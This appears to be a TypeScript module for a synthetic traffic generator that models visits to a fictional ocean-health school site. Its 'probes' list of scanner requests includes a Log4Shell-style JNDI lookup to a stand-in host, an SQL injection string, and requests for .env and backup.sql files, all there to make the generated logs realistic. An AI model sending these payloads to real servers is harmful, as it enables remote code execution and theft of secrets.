/** The site that generated visitors walk through: a small ocean-health school with ocean pages, body pages, lessons and a JSON API. */
import type { Kind } from '../record.ts';

export type Page = {
  readonly path: string;
  /** How often it is chosen beside the others. */
  readonly weight: number;
  /** What its HTML asks for besides the shared assets. */
  readonly pictures: readonly string[];
  /** What its scripts ask the application for. */
  readonly calls: readonly string[];
};

/** Loaded with the first page of a visit. */
export const sharedAssets: readonly string[] = ['/static/site.css', '/static/site.js', '/static/fonts/source-sans.woff2', '/static/logo.svg'];

const page = (path: string, weight: number, pictures: readonly string[], calls: readonly string[] = []): Page => ({
  path,
  weight,
  pictures: pictures.map((name) => `/static/img/${name}`),
  calls,
});

export const pages: readonly Page[] = [
  page('/', 30, ['tide.webp', 'reef-small.webp'], ['/api/v1/tides?days=3']),
  page('/ocean', 12, ['currents.webp']),
  page('/ocean/coral-reefs', 14, ['reef.webp', 'polyp.webp'], ['/api/v1/observations?species=12&limit=20']),
  page('/ocean/plastic', 9, ['gyre.webp', 'bottle.webp']),
  page('/ocean/acidification', 6, ['shell.webp']),
  page('/ocean/seagrass', 4, ['meadow.webp']),
  page('/body', 10, ['heart.webp']),
  page('/body/lungs', 7, ['lungs.webp', 'plankton.webp'], ['/api/v1/facts/lungs']),
  page('/body/water-balance', 5, ['glass.webp']),
  page('/body/iodine', 3, ['kelp.webp']),
  page('/lessons', 8, ['class.webp'], ['/api/v1/lessons?page=1']),
  page('/lessons/3', 6, ['lesson-3.webp'], ['/api/v1/lessons/3']),
  page('/lessons/3/quiz', 5, ['quiz.webp'], ['/api/v1/lessons/3/questions']),
  page('/lessons/17', 3, ['lesson-17.webp'], ['/api/v1/lessons/17']),
  page('/species/48213', 3, ['octopus.webp'], ['/api/v1/species/48213']),
  page('/species/50977', 2, ['manta.webp'], ['/api/v1/species/50977']),
  page('/search?q=mangroves', 4, ['tide.webp']),
  page('/about', 2, ['team.webp']),
];

/** The pages by weight: each as often as it is chosen, so that a pick is one draw. */
export const pagesByWeight: readonly Page[] = pages.flatMap((one) => Array.from({ length: one.weight }, () => one));

/** Where visitors come from; empty is no referrer. */
export const referrers: readonly string[] = [
  '', '', '', '', '',
  'https://www.google.com/', 'https://www.google.com/', 'https://duckduckgo.com/', 'https://www.ecosia.org/', 'https://www.bing.com/',
  'https://school.example.org/links?class=5b', 'https://news.example.com/2026/ocean-day', 'android-app://com.google.android.gm/',
];

/** What scanners ask for; none of it exists. The kind is what the path looks like, which is all there is where the answer is an error. */
export const probes: readonly { readonly method: string; readonly path: string; readonly kind: Kind }[] = [
  { method: 'GET', path: '/wp-login.php', kind: 'page' },
  { method: 'GET', path: '/phpmyadmin/index.php?lang=en', kind: 'page' },
  { method: 'GET', path: '/cgi-bin/luci/;stok=/locale', kind: 'page' },
  { method: 'GET', path: '/search?x=${jndi:ldap://203.0.113.9/a}', kind: 'page' },
  { method: 'GET', path: '/.env', kind: 'other' },
  { method: 'GET', path: '/backup.sql', kind: 'other' },
  { method: 'POST', path: '/xmlrpc.php', kind: 'other' },
  { method: 'GET', path: '/api/v1/users?id=1%27%20OR%20%271%27=%271', kind: 'api' },
];

const types: Readonly<Record<string, string>> = {
  css: 'text/css; charset=utf-8',
  js: 'text/javascript; charset=utf-8',
  svg: 'image/svg+xml',
  webp: 'image/webp',
  woff2: 'font/woff2',
  xml: 'application/rss+xml',
  txt: 'text/plain; charset=utf-8',
};

/** `$sent_http_content_type` of a static file. */
export function contentTypeOf(path: string): string {
  return types[path.slice(path.lastIndexOf('.') + 1)] ?? 'application/octet-stream';
}
